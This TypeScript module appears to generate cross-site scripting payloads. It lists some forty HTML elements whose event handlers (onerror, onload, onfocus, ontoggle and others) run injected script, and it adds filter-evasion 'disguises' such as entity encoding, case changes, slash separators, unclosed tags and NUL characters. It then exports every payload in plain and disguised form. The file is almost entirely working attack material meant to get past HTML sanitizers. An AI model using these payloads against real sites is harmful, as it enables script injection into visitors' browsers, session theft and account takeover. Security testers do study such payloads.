import type { Template } from './payload-template.ts';

/** Elements that raise an event on load or at a visitor's touch; `ON` stands before the handler's name. */
const ELEMENTS = [
  '<img src=x ONerror=JS>',
  '<img srcset=x ONerror=JS>',
  '<image src=x ONerror=JS>',
  '<picture><source srcset=x ONerror=JS><img src=x ONerror=JS></picture>',
  '<svg ONload=JS>',
  '<svg><animate attributeName=x dur=1s ONbegin=JS>',
  '<svg><set attributeName=x dur=1s ONbegin=JS>',
  '<svg><image href=x ONerror=JS>',
  '<math><mi tabindex=0 autofocus ONfocus=JS>a',
  '<body ONload=JS>',
  '<body ONpageshow=JS>',
  '<frameset ONload=JS>',
  '<iframe ONload=JS></iframe>',
  '<iframe srcdoc="<img src=x ONerror=parent.JS>"></iframe>',
  '<object data=x ONerror=JS></object>',
  '<embed src=x ONload=JS>',
  '<video src=x ONerror=JS></video>',
  '<video><source src=x ONerror=JS></video>',
  '<audio src=x ONerror=JS></audio>',
  '<video><track default src=x ONerror=JS></video>',
  '<link rel=stylesheet href=x ONerror=JS>',
  '<style ONload=JS></style>',
  '<script src=x ONerror=JS></script>',
  '<details open ONtoggle=JS>a</details>',
  '<dialog open ONclose=JS><form method=dialog><button>a</button></form></dialog>',
  '<input autofocus ONfocus=JS>',
  '<input type=image src=x ONerror=JS>',
  '<select autofocus ONfocus=JS></select>',
  '<textarea autofocus ONfocus=JS></textarea>',
  '<button autofocus ONfocus=JS>a</button>',
  '<button popovertarget=p>a</button><p popover id=p ONbeforetoggle=JS>b</p>',
  '<a href=# tabindex=0 autofocus ONfocus=JS>a</a>',
  '<marquee ONstart=JS>a</marquee>',
  '<p ONclick=JS ONpointerover=JS>a</p>',
  '<p style="animation:fade-in 1s" ONanimationstart=JS>a</p>',
  '<p style=content-visibility:auto ONcontentvisibilityautostatechange=JS>a</p>',
  '<form ONsubmit=JS><button>a</button></form>',
  '<td ONclick=JS>a</td>',
  '<unknown-element tabindex=0 autofocus ONfocus=JS>a</unknown-element>',
] as const;

/** Spellings of an element that differ for filters, but not for parsers. */
const DISGUISES: readonly ((html: string) => string)[] = [
  (html) => html.replaceAll(' ', '/'),
  (html) => html.replaceAll(' ', '\n\t\f'),
  (html) => html.replace(/^<[a-z]+/, (tag) => tag.toUpperCase()).replaceAll('ON', 'oN'),
  (html) => html.replaceAll(/JS/g, '"J&#83;"'),
  (html) => html.replace(/>$/, ''),
  (html) => `<<a${html}`,
  (html) => html.replaceAll('ON', '"a"=b\u0000 ON'),
];

function written(html: string): Template {
  return ({ js }) => html.replaceAll('ON', 'on').replaceAll('J&#83;', js.replace('_', '&#95;')).replaceAll('JS', js);
}

/** Event handlers, each on an element that raises the event: plain, and in disguise. */
export const eventHandlers: readonly Template[] = ELEMENTS.flatMap((html, index) => [
  written(html),
  written(DISGUISES[index % DISGUISES.length]?.(html) ?? html),
]);
